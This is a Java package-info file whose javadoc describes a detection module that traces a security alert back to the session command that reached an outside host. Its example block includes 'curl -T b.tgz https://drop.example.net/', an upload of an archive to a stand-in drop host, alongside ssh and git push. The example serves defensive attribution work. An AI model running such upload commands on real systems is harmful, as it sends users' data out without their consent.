/**
 * From an alert back to the command that reached its far side.
 *
 * <p>An upload with {@code curl -T}, a {@code git push}, a script that opens a socket are no acts
 * by themselves: only the alert makes them one. So the way is the other one here. {@link
 * dev.offscript.chains.backward.Reaches} finds in a session every command that reached a far side,
 * and how that is known:
 *
 * <pre>
 *   curl -T b.tgz https://drop.example.net/     it names it
 *   python3 up.py                               it runs up.py, which names it
 *   ./up                                        it runs up, made from up.c, which names it
 *   ssh edge                                    .ssh/config, which the session wrote, maps it
 *   git push                                    it prints it
 * </pre>
 *
 * <p>{@link dev.offscript.chains.backward.Backward} keeps those that fit an alert by value, place
 * and time. Where one command of one session does, it becomes a deed like any other; where several
 * do, none is accused, and the alert says how many fit.
 */
@NullMarked
package dev.offscript.chains.backward;

import org.jspecify.annotations.NullMarked;
